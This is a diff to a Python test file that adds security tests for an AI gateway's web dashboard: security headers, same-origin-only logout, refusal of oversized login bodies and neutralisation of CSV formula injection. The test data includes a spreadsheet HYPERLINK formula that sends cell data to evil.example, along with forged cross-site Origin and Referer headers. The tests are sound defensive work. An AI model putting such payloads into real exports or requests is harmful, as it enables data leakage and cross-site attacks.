@@ -4,9 +4,13 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import io
 import os
 import shutil
+import socket
 import sqlite3
+import threading
+import time
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -157,6 +161,8 @@ def test_dashboard_in_headless_chromium(seeded):
             page = context.new_page()
             outside = []
             page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(seeded.url) else None)
+            refused = []  # what the Content-Security-Policy blocked, as Chromium reports it
+            page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
 
             page.goto(seeded.url + "/ui/")
             expect(page).to_have_url(seeded.url + "/ui/login?next=/ui/")
@@ -192,6 +198,12 @@ def test_dashboard_in_headless_chromium(seeded):
             expect(page.locator("#chart-reviews")).to_have_attribute("data-rendered", "true")
             page.screenshot(path=str(ARTIFACTS / "dashboard-reviews.png"), full_page=True)
             assert outside == []  # nothing loaded from anywhere but the gateway
+            assert refused == []  # the charts and scripts run under the policy
+
+            page.click("header button:text('Sign out')")  # a same-origin form POST
+            expect(page).to_have_url(seeded.url + "/ui/login")
+            page.goto(seeded.url + "/ui/")
+            expect(page).to_have_url(seeded.url + "/ui/login?next=/ui/")
 
             other = browser.new_context().new_page()
             other.goto(seeded.url + "/ui/login")
@@ -201,3 +213,134 @@ def test_dashboard_in_headless_chromium(seeded):
             assert "kpi-requests" not in other.content()
         finally:
             browser.close()
+
+
+def _assert_secured(response: httpx.Response) -> None:
+    csp = response.headers.get("content-security-policy", "")
+    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp and "script-src 'self'" in csp, response.url
+    assert response.headers.get("x-frame-options") == "DENY", response.url
+    assert response.headers.get("x-content-type-options") == "nosniff", response.url
+
+
+def test_every_ui_response_carries_the_security_headers(gateway):
+    admin = {"authorization": f"Bearer {gateway.token('root@example.com', '--admin')}"}
+    member = {"authorization": f"Bearer {gateway.token('dana@example.com')}"}
+    cases = [
+        ("GET", "/ui/", {}, 303),
+        ("GET", "/ui/", admin, 200),
+        ("GET", "/ui/", member, 403),
+        ("GET", "/ui/reviews", admin, 200),
+        ("GET", "/ui/models/gpt-4o", admin, 200),
+        ("GET", "/ui/?range=custom&start=2026-02-01&end=2026-01-01", admin, 400),
+        ("GET", "/ui/login", {}, 200),
+        ("POST", "/ui/login", {}, 401),
+        ("GET", "/ui/logout", {}, 405),
+        ("GET", "/ui/export/models.csv", admin, 200),
+        ("GET", "/ui/export/models.csv", {}, 401),
+        ("GET", "/ui/export/nope.csv", admin, 404),
+        ("GET", "/ui/static/dashboard.js", {}, 200),
+        ("GET", "/ui/static/nope.js", {}, 404),
+        ("GET", "/ui/nope/x", admin, 404),
+        ("GET", "/ui/nope", {}, 307),  # routing's slash redirect
+        ("DELETE", "/ui/", {}, 405),
+    ]
+    for method, path, headers, status in cases:
+        response = httpx.request(method, gateway.url + path, headers=headers, follow_redirects=False)
+        assert response.status_code == status, (method, path, response.status_code)
+        _assert_secured(response)
+    assert "javascript" in httpx.get(gateway.url + "/ui/static/dashboard.js").headers["content-type"]
+
+
+def test_logout_only_by_a_same_origin_post(gateway):
+    url = gateway.url + "/ui/logout"
+
+    def signed_out(response: httpx.Response) -> bool:
+        return response.status_code == 303 and "aiplane_session=" in response.headers.get("set-cookie", "")
+
+    refused = [
+        httpx.get(url, headers={"origin": gateway.url}),
+        httpx.post(url),  # neither Origin nor Referer
+        httpx.post(url, headers={"origin": "https://evil.example"}),
+        httpx.post(url, headers={"origin": "null"}),
+        httpx.post(url, headers={"origin": gateway.url.replace("127.0.0.1", "localhost")}),
+        httpx.post(url, headers={"origin": gateway.url.replace("http://", "https://")}),
+        httpx.post(url, headers={"referer": "https://evil.example/ui/"}),
+        httpx.post(url, headers={"origin": "https://evil.example", "referer": gateway.url + "/ui/"}),
+    ]
+    assert refused[0].status_code == 405
+    assert [r.status_code for r in refused[1:]] == [403] * 7
+    assert not any("set-cookie" in r.headers for r in refused)
+    assert signed_out(httpx.post(url, headers={"origin": gateway.url}))
+    assert signed_out(httpx.post(url, headers={"referer": gateway.url + "/ui/reviews"}))
+
+
+def _raw_login(port: int, framing: str, total: int) -> socket.socket:
+    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+    sock.sendall(
+        f"POST /ui/login HTTP/1.1\r\nhost: 127.0.0.1:{port}\r\ncontent-type: application/x-www-form-urlencoded\r\n{framing}\r\n\r\n".encode()
+    )
+    return sock
+
+
+def test_a_huge_login_body_is_refused_fast_and_the_gateway_stays_responsive(gateway):
+    size = 16 * 1024 * 1024
+    piece = b"token=" + b"a" * (64 * 1024 - 6)
+    for framing in (f"content-length: {size}", "transfer-encoding: chunked"):
+        chunked = framing.startswith("transfer")
+        sock = _raw_login(gateway.port, framing, size)
+        sent = [0]
+
+        def pump(sock: socket.socket = sock, chunked: bool = chunked, sent: list[int] = sent) -> None:
+            try:
+                while sent[0] < size:
+                    sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
+                    sent[0] += len(piece)
+            except OSError:
+                pass  # the gateway answered and closed: the rest is never read
+
+        started = time.monotonic()
+        sender = threading.Thread(target=pump, daemon=True)
+        sender.start()
+        health = time.monotonic()
+        assert httpx.get(gateway.url + "/healthz", timeout=5).status_code == 200
+        health = time.monotonic() - health
+        reply = b""
+        while b"\r\n\r\n" not in reply:
+            chunk = sock.recv(65536)
+            if not chunk:
+                break
+            reply += chunk
+        elapsed = time.monotonic() - started
+        sender.join(timeout=10)
+        sock.close()
+        assert reply.startswith(b"HTTP/1.1 413"), reply[:200]
+        assert elapsed < 2.0 and health < 1.0, (framing, elapsed, health)
+        assert sent[0] < size, framing  # refused long before the body was all sent
+    assert httpx.get(gateway.url + "/ui/login").status_code == 200
+
+
+def test_csv_cells_that_look_like_formulas_are_neutralised(gateway):
+    models = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "gpt-4o"]
+    records = [
+        UsageRecord(
+            request_id=f"f{i}", user_id="00000000-0000-4000-8000-000000000002", provider="openai", model=model,
+            endpoint="chat/completions", streamed=False, status=200, latency_ms=50.0, input_tokens=10, output_tokens=5,
+            cost_usd=0.01 * (i + 1),
+        )
+        for i, model in enumerate(models)
+    ]
+
+    async def write() -> None:
+        engine = create_engine(f"sqlite+aiosqlite:///{gateway.data_dir / 'aiplane.db'}")
+        async with engine.begin() as conn:
+            await conn.execute(usage.insert(), [r.row() for r in records])
+            await add_to_rollup(conn, records)
+        await engine.dispose()
+
+    asyncio.run(write())
+    admin = {"authorization": f"Bearer {gateway.token('root@example.com', '--admin')}"}
+    response = httpx.get(gateway.url + "/ui/export/models.csv", headers=admin)
+    assert response.status_code == 200
+    keys = [row["key"] for row in csv.DictReader(io.StringIO(response.text, newline=""))]
+    assert sorted(keys) == sorted(("'" + m if m[0] in "=+-@\t\r" else m) for m in models)
+    assert not any(k[0] in "=+-@\t\r" for k in keys)
